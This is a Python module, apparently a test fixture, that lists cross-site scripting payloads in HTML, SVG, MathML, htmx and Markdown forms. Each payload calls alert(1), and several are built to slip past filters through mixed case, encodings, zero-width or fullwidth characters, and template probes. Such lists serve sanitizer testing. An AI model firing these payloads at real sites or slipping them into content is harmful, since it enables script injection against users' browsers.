"""Texts that run a script where a page takes them for markup: each calls `alert` if it does."""

MARKUP = """
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src="data:text/javascript,alert(1)"></script>
<script type="module">alert(1)</script>
</script><script>alert(1)</script>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img/src=x/onerror=alert(1)>
<img src=`x` onerror=alert(1)>
<img srcset=x onerror=alert(1)>
"><img src=x onerror=alert(1)>
'"><img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributeName=x>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math href="javascript:alert(1)">x</math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<details open ontoggle=alert(1)>x</details>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<marquee onstart=alert(1)>x</marquee>
<div onpointerover=alert(1)>x</div>
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<form action="javascript:alert(1)"><button autofocus>x</button></form>
<button formaction="javascript:alert(1)" form=x>x</button>
<link rel=stylesheet href="data:text/css,body{background:red}">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href="javascript:/a/-alert(1)///">
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<style>@import 'data:text/css,*{x:expression(alert(1))}';</style>
<p style="background:url(javascript:alert(1))">x</p>
<div hx-get="/" hx-trigger="load" hx-on::load="alert(1)">x</div>
<div hx-on:click="alert(1)" hx-vals="js:{a:alert(1)}">x</div>
<div data-hx-get="/healthz" data-hx-trigger="load">x</div>
{{ 7*7 }}{% debug %}
${alert(1)}
`${alert(1)}`
";alert(1);//
';alert(1);//
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
&lt;script&gt;alert(1)&lt;/script&gt;
%3Cscript%3Ealert(1)%3C/script%3E
<scr\u200bipt>alert(1)</script>
＜script＞alert(1)＜/script＞
""".strip().splitlines()

MARKDOWN = """
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
![x](javascript:alert(1))
![x](x "onerror=alert(1)")
<javascript:alert(1)>
[x]: javascript:alert(1)
```<script>alert(1)</script>```
""".strip().splitlines()

ALL = MARKUP + MARKDOWN
